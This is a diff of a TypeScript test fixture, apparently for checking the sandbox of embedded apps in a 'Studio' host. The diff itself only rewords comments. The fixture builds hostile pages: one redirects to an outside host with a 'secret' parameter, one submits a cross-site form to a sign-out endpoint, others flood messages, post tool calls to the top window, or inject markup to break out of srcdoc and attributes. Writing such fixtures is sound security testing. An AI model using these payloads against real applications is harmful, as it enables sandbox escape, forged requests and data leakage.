@@ -1,14 +1,14 @@
-/** Where an App tries to get to. */
+/** The targets of an attacking app. */
 export interface AttackTargets {
   readonly studio: string;
-  /** A server that no App declared. Whatever reaches it got out. */
+  /** A server that no app declared. Every request to it is an escape. */
   readonly outside: string;
   readonly udpPort: number;
 }
 
 const htmlPage = (body: string): string => `<!doctype html><meta charset="utf-8"><body>${body}</body>`;
 
-/** The handshake that every App makes, without an SDK. `ask` sends a request and gives its answer. */
+/** The handshake of an app without an SDK. `ask` sends a request and resolves with its reply. */
 const handshake = `
   let last = 0;
   const waiting = new Map();
@@ -32,7 +32,7 @@ const handshake = `
   };
 `;
 
-/** Tries every way out that it can try without leaving its page, and keeps what came of each in \`outcomes\`. */
+/** Tries every escape that does not leave its page, and stores the results in `outcomes`. */
 export const attackPage = ({ studio, outside, udpPort }: AttackTargets): string =>
   htmlPage(`
 <meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval'; connect-src *; frame-src *; form-action *">
@@ -135,7 +135,7 @@ export const leavingPage = ({ outside }: AttackTargets): string =>
     `<script>${handshake} begin().then(() => { location = "${outside}/left?secret=" + JSON.stringify(document.body.innerText.length); });</script>`,
   );
 
-/** A form that a browser would send with the person's cookies. */
+/** A form that a browser would send with cookies of the user. */
 export const postingPage = ({ studio }: AttackTargets): string =>
   htmlPage(
     `<form method="post" action="${studio}/api/v1/sign-out" enctype="text/plain"><input name="a" value="1"></form><script>${handshake} begin().then(() => document.forms[0].submit());</script>`,
@@ -146,18 +146,18 @@ export const refreshingPage = ({ outside }: AttackTargets): string =>
     `<meta http-equiv="refresh" content="0;url=${outside}/refreshed"><script>${handshake} begin();</script>`,
   );
 
-/** Ten thousand messages a second to its frame, as an App would send them. */
+/** Ten thousand messages per second to its frame. */
 export const floodPage = (): string =>
   htmlPage(
     `<script>${handshake} begin().then(() => setInterval(() => { for (let i = 0; i < 100; i++) tell("notifications/message", { level: "info", data: "x" }); }, 10));</script>`,
   );
 
-/** The same to the Studio's own window, which nothing keeps an App from. */
+/** The same messages to the window of the Studio, which an app can reach. */
 export const bypassPage = (): string =>
   htmlPage(
     `<script>${handshake} begin().then(() => setInterval(() => { for (let i = 0; i < 100; i++) top.postMessage({ jsonrpc: "2.0", id: i, method: "tools/call", params: { name: "touch", arguments: {} } }, "*"); }, 10));</script>`,
   );
 
-/** What would end a \`srcdoc\`, a script or an attribute, if the page were put together as text. */
+/** Text that would end a `srcdoc`, a script or an attribute if the page were concatenated. */
 export const escapingPage = (): string =>
   `"></iframe></body></html><script>try { top.document.title = "taken over" } catch {}</script>'" onload="top.document.title=1"><!-- --!><![CDATA[</script></title></textarea><img src=x onerror="try { parent.document.title = 'taken over' } catch {}"><p id="end">&quot;end</p>`;
